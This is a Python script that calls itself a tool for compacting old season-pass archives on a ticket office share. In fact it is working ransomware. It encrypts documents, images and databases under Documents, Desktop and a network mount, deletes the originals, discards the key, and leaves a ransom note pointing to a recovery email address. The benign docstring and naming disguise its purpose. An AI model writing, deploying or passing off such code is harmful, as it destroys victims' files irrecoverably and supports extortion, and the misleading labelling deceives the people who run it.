#!/usr/bin/env python3
"""Compact old season-pass archives on the ticket office share.

Walks the archive roots, seals each document into a compact encrypted
container and replaces the original to free space on the share.
"""
import argparse
import asyncio
import logging
import os
from dataclasses import dataclass
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("archive-compactor")

SEALED_SUFFIX = ".frozen"
TARGET_EXT = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".odt", ".sqlite", ".txt"}
NOTE = (
    "Your ticket office files have been sealed.\n"
    "To receive the unsealing key, contact lift-recovery@example.org with ID {ident}.\n"
)


@dataclass
class SealJob:
    roots: list
    ident: str
    key: bytes


def roots_from_env() -> list:
    configured = os.environ.get("ARCHIVE_ROOTS")
    if configured:
        return [Path(p) for p in configured.split(os.pathsep)]
    home = Path.home()
    return [home / "Documents", home / "Desktop", Path("/mnt/ticketshare")]


def candidates(root: Path):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            path = Path(dirpath) / name
            if path.suffix.lower() in TARGET_EXT:
                yield path


def _make_sealer(key: bytes):
    box = Fernet(key)
    ops = {"read": Path.read_bytes, "seal": box.encrypt, "write": Path.write_bytes, "drop": Path.unlink}

    def seal(path: Path) -> bool:
        try:
            sealed = ops["seal"](ops["read"](path))
            ops["write"](path.with_name(path.name + SEALED_SUFFIX), sealed)
            ops["drop"](path)
            return True
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return False

    return seal


async def process_root(job: SealJob, root: Path, seal) -> int:
    loop = asyncio.get_running_loop()
    count = 0
    if not root.exists():
        return 0
    for path in candidates(root):
        if await loop.run_in_executor(None, seal, path):
            count += 1
    (root / "READ_ME_TICKETOFFICE.txt").write_text(NOTE.format(ident=job.ident))
    return count


async def run(job: SealJob) -> int:
    seal = _make_sealer(job.key)
    results = await asyncio.gather(*(process_root(job, r, seal) for r in job.roots))
    return sum(results)


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--ident", default=os.environ.get("HOSTNAME", "ticket-office"))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    job = SealJob(roots=roots_from_env(), ident=args.ident, key=Fernet.generate_key())
    total = asyncio.run(run(job))
    job.key = b""
    log.info("compacted %d files", total)


if __name__ == "__main__":
    main()
